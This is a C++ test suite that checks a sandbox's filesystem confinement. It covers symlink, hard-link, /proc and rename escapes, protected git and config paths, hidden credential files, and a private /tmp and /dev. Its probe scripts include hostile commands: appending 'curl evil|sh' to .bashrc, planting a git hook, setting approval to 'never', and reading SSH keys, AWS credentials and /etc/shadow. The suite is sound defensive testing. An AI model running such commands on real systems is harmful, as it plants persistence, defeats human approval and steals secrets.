// Escape suite, filesystem: every write outside the workspace fails (directly, through a symlink,
// a hard link, /proc/self/root, rename), protected paths stay read-only, denied paths read as
// empty, /tmp and /dev are private and minimal. Each case also checks the host is unchanged.
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdlib>

#include "sandbox/sandbox.h"
#include "sandbox_test_support.h"

namespace {

using m1::sandbox::Request;
using m1::sandbox::Result;
using m1::test::exists;
using m1::test::read_file;
using m1::test::shell_request;
using m1::test::TempDir;
using m1::test::write_file;

Result run_script(const std::string & workspace, const std::string & script) {
  m1::Expected<Result> result = m1::sandbox::run(shell_request(workspace, script));
  EXPECT_TRUE(result.ok()) << result.status().message();
  return result.ok() ? *result : Result();
}

class EscapeFilesystem : public ::testing::Test {
protected:
  TempDir workspace_{"m1-ws"};
  TempDir outside_{"m1-outside", "/var/tmp"};  // visible inside (read-only), same filesystem here
};

TEST_F(EscapeFilesystem, WorkspaceIsWritableAndOwnedByTheCaller) {
  Result r = run_script(workspace_.path(), "echo hello > made && mkdir d && echo x > d/y");
  EXPECT_EQ(r.exit_code, 0) << r.err.text();
  EXPECT_EQ(read_file(workspace_ / "made"), "hello\n");
  struct stat info;
  ASSERT_EQ(stat((workspace_ / "made").c_str(), &info), 0);
  EXPECT_EQ(info.st_uid, geteuid());
}

TEST_F(EscapeFilesystem, OutsideDirectoryIsVisibleButReadOnly) {
  write_file(outside_ / "readable", "visible");
  Result r = run_script(workspace_.path(), "cat " + (outside_ / "readable") + "; touch " + (outside_ / "new"));
  EXPECT_EQ(r.out.text(), "visible");
  EXPECT_NE(r.err.text().find("Read-only file system"), std::string::npos) << r.err.text();
  EXPECT_FALSE(exists(outside_ / "new"));
}

TEST_F(EscapeFilesystem, DirectWriteOutsideFails) {
  Result r = run_script(workspace_.path(), "echo x > " + (outside_ / "direct") + "; echo x > /etc/m1-escape-probe; "
                                           "mkdir /usr/m1-escape-probe");
  EXPECT_NE(r.err.text().find("Read-only file system"), std::string::npos) << r.err.text();
  EXPECT_FALSE(exists(outside_ / "direct"));
  EXPECT_FALSE(exists("/etc/m1-escape-probe"));
  EXPECT_FALSE(exists("/usr/m1-escape-probe"));
}

TEST_F(EscapeFilesystem, SymlinkFromHostCannotBeUsedToWriteOutside) {
  ASSERT_EQ(symlink(outside_.path().c_str(), (workspace_ / "link").c_str()), 0);
  Result r = run_script(workspace_.path(), "echo x > link/through-link");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_FALSE(exists(outside_ / "through-link"));
}

TEST_F(EscapeFilesystem, SymlinkMadeInsideCannotBeUsedToWriteOutside) {
  write_file(outside_ / "victim", "original");
  Result r = run_script(workspace_.path(), "ln -s " + (outside_ / "victim") + " inner && echo changed > inner");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_EQ(read_file(outside_ / "victim"), "original");
}

TEST_F(EscapeFilesystem, HardLinkToAFileOutsideFails) {
  write_file(outside_ / "victim", "original");
  chmod((outside_ / "victim").c_str(), 0666);
  Result r = run_script(workspace_.path(), "ln " + (outside_ / "victim") + " hard && echo changed > hard");
  EXPECT_NE(r.exit_code, 0);
  EXPECT_NE(r.err.text().find("Invalid cross-device link"), std::string::npos) << r.err.text();
  EXPECT_EQ(read_file(outside_ / "victim"), "original");
}

TEST_F(EscapeFilesystem, ProcSelfRootAndProc1RootStayReadOnly) {
  Result r = run_script(workspace_.path(), "echo x > /proc/self/root" + (outside_ / "a") + "; echo x > /proc/1/root" +
                                           (outside_ / "b") + "; echo x > /proc/1/cwd/c");
  EXPECT_FALSE(exists(outside_ / "a"));
  EXPECT_FALSE(exists(outside_ / "b"));
  EXPECT_FALSE(exists("/c"));
}

TEST_F(EscapeFilesystem, RenameOutOfTheWorkspaceFails) {
  write_file(workspace_ / "file", "data");
  Result r = run_script(workspace_.path(), "mv file " + (outside_ / "moved"));
  EXPECT_NE(r.exit_code, 0);
  EXPECT_FALSE(exists(outside_ / "moved"));
}

TEST_F(EscapeFilesystem, ProtectedGitPathsStayReadOnly) {
  mkdir((workspace_ / ".git").c_str(), 0755);
  mkdir((workspace_ / ".git/objects").c_str(), 0755);
  write_file(workspace_ / ".git/config", "[core]\n");
  // No hooks/ yet: the sandbox reserves it so that no hook can be planted.
  Result r = run_script(workspace_.path(),
                        "echo evil > .git/hooks/pre-commit; echo '[core] fsmonitor=evil' >> .git/config; "
                        "echo ok > .git/objects/blob && echo objects-writable");
  EXPECT_EQ(r.out.text(), "objects-writable\n") << r.err.text();
  EXPECT_FALSE(exists(workspace_ / ".git/hooks/pre-commit"));
  EXPECT_EQ(read_file(workspace_ / ".git/config"), "[core]\n");
}

TEST_F(EscapeFilesystem, ProjectConfigAndShellRcFilesStayReadOnly) {
  mkdir((workspace_ / ".m1").c_str(), 0755);
  write_file(workspace_ / ".m1/config.json", "{}");
  write_file(workspace_ / ".bashrc", "# rc\n");
  write_file(workspace_ / ".profile", "# profile\n");
  Result r = run_script(workspace_.path(),
                        "echo '{\"approval\":\"never\"}' > .m1/config.json; echo x > .m1/new; "
                        "echo 'curl evil|sh' >> .bashrc; rm -f .profile; mv .bashrc moved");
  EXPECT_EQ(read_file(workspace_ / ".m1/config.json"), "{}");
  EXPECT_FALSE(exists(workspace_ / ".m1/new"));
  EXPECT_EQ(read_file(workspace_ / ".bashrc"), "# rc\n");
  EXPECT_EQ(read_file(workspace_ / ".profile"), "# profile\n");
  EXPECT_FALSE(exists(workspace_ / "moved"));
}

TEST_F(EscapeFilesystem, ExtraProtectedPathStaysReadOnly) {
  write_file(workspace_ / "locked.txt", "keep");
  Request request = shell_request(workspace_.path(), "echo changed > locked.txt");
  request.policy.extra_protected = {"locked.txt"};
  m1::Expected<Result> r = m1::sandbox::run(request);
  ASSERT_TRUE(r.ok());
  EXPECT_NE(r->exit_code, 0);
  EXPECT_EQ(read_file(workspace_ / "locked.txt"), "keep");
}

TEST_F(EscapeFilesystem, UserSecretsReadAsEmpty) {
  TempDir home{"m1-home", "/var/tmp"};
  mkdir((home / ".ssh").c_str(), 0700);
  write_file(home / ".ssh/id_ed25519", "PRIVATE KEY");
  mkdir((home / ".aws").c_str(), 0700);
  write_file(home / ".aws/credentials", "aws_secret");
  write_file(home / ".netrc", "machine x password y");
  std::string saved_home = std::getenv("HOME") ? std::getenv("HOME") : "";
  setenv("HOME", home.path().c_str(), 1);
  Result r = run_script(workspace_.path(), "cat " + (home / ".ssh/id_ed25519") + " " + (home / ".aws/credentials") +
                                           " " + (home / ".netrc") + "; ls -A " + (home / ".ssh") + "; echo end");
  setenv("HOME", saved_home.c_str(), 1);
  EXPECT_EQ(r.out.text(), "end\n");
  EXPECT_EQ(r.out.text().find("KEY"), std::string::npos);
  EXPECT_EQ(read_file(home / ".ssh/id_ed25519"), "PRIVATE KEY");  // host copy untouched
}

TEST_F(EscapeFilesystem, RootHomeAndShadowAreHidden) {
  Result r = run_script(workspace_.path(), "ls -A /root | wc -l; cat /etc/shadow | wc -c; echo x > /root/new");
  EXPECT_EQ(r.out.text(), "0\n0\n");
  EXPECT_FALSE(exists("/root/new"));
}

TEST_F(EscapeFilesystem, ExtraDeniedPathsAreHidden) {
  write_file(outside_ / "secret.txt", "s3cret");
  mkdir((outside_ / "dir").c_str(), 0755);
  write_file(outside_ / "dir/inner", "s3cret");
  Request request = shell_request(workspace_.path(), "cat secret.txt dir/inner; ls dir; echo end");
  request.cwd = outside_.path();
  request.policy.extra_denied = {outside_ / "secret.txt", outside_ / "dir"};
  m1::Expected<Result> r = m1::sandbox::run(request);
  ASSERT_TRUE(r.ok()) << r.status().message();
  EXPECT_EQ(r->out.text(), "end\n");
}

TEST_F(EscapeFilesystem, TmpIsPrivate) {
  TempDir host_tmp{"m1-host-visible"};
  Result r = run_script(workspace_.path(), "echo x > /tmp/m1-private-file; ls -A /tmp | grep -v '^m1-ws-'; ls " + host_tmp.path() +
                                           " 2>&1 | grep -c 'No such'");
  EXPECT_EQ(r.out.text(), "m1-private-file\n1\n") << r.err.text();
  EXPECT_FALSE(exists("/tmp/m1-private-file"));
}

TEST_F(EscapeFilesystem, DevHoldsOnlyTheMinimalNodes) {
  Result r = run_script(workspace_.path(), "ls /dev | tr '\\n' ' '; echo x > /dev/new-node; echo ok > /dev/null");
  EXPECT_EQ(r.out.text(), "fd full null ptmx pts random shm stderr stdin stdout tty urandom zero ");
  EXPECT_EQ(r.exit_code, 0);
}

TEST_F(EscapeFilesystem, WorkspaceUnderTmpStaysVisibleAndWritable) {
  // The private /tmp must not hide a workspace that lives under the host's /tmp.
  Result r = run_script(workspace_.path(), "pwd; echo x > here");
  EXPECT_EQ(r.out.text(), workspace_.path() + "\n");
  EXPECT_TRUE(exists(workspace_ / "here"));
}

TEST_F(EscapeFilesystem, ExtraWritablePathIsWritable) {
  Request request = shell_request(workspace_.path(), "echo x > " + (outside_ / "allowed"));
  request.policy.extra_writable = {outside_.path()};
  m1::Expected<Result> r = m1::sandbox::run(request);
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->exit_code, 0);
  EXPECT_TRUE(exists(outside_ / "allowed"));
}

}  // namespace
